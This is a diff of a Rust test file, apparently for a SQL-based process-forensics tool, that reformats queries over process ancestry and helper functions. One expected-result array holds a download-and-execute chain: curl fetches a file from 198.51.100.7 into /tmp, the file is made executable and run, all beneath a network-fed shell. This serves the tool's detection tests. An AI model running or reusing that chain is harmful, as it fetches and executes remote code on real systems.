@@ -216,8 +216,10 @@ fn what_an_image_came_of_and_what_came_of_it_are_tables() {
     assert_eq!(rows(&session, &above).join("\n"), expected);
     let shell = "SELECT exec_id FROM process WHERE comm = 'sh' AND stdin LIKE 'inet%' AND origin = 'exec'";
     let shell = &rows(&session, shell)[0];
-    let below = format!("SELECT cmdline FROM descendants('{shell}') WHERE origin = 'exec' AND distance > 0 AND pid < 5015");
-    let expected = ["curl -so /tmp/.part http://198.51.100.7/x", "mv /tmp/.part /tmp/.x", "chmod 755 /tmp/.x", "/tmp/.x"];
+    let below =
+        format!("SELECT cmdline FROM descendants('{shell}') WHERE origin = 'exec' AND distance > 0 AND pid < 5015");
+    let expected =
+        ["curl -so /tmp/.part http://198.51.100.7/x", "mv /tmp/.part /tmp/.x", "chmod 755 /tmp/.x", "/tmp/.x"];
     assert_eq!(rows(&session, &below), expected);
     let same = format!("SELECT count(*) FROM ancestry WHERE exec_id = {id}");
     assert_eq!(rows(&session, &same), rows(&session, &format!("SELECT count(*) FROM ancestors({id})")));
@@ -231,7 +233,11 @@ fn functions_of_ours_say_what_their_page_says() {
     assert_eq!(one("in_cidr('10.1.2.3', '10.0.0.0/8'), in_cidr('::ffff:10.1.2.3', '10.0.0.0/8')"), "true | true");
     assert_eq!(one("in_cidr('192.0.2.1', '10.0.0.0/8'), in_cidr('web', '10.0.0.0/8')"), "false | null");
     assert_eq!(one("basename('/usr/bin/nc'), dirname('/usr/bin/nc'), entropy('aabb')"), "nc | /usr/bin | 1.0");
-    assert!(problem(&session, "SELECT in_cidr(remote_addr, '10.0.0.0/99') FROM network").to_string().contains("10.0.0.0/99"));
+    assert!(
+        problem(&session, "SELECT in_cidr(remote_addr, '10.0.0.0/99') FROM network")
+            .to_string()
+            .contains("10.0.0.0/99")
+    );
     let near = "SELECT DISTINCT comm FROM process WHERE around(time, '2026-03-14T09:00:10.3Z', 1) AND origin = 'exec' ORDER BY 1";
     let plain = "SELECT DISTINCT comm FROM process WHERE time BETWEEN TIMESTAMP '2026-03-14T09:00:09.3Z' \
                  AND TIMESTAMP '2026-03-14T09:00:11.3Z' AND origin = 'exec' ORDER BY 1";
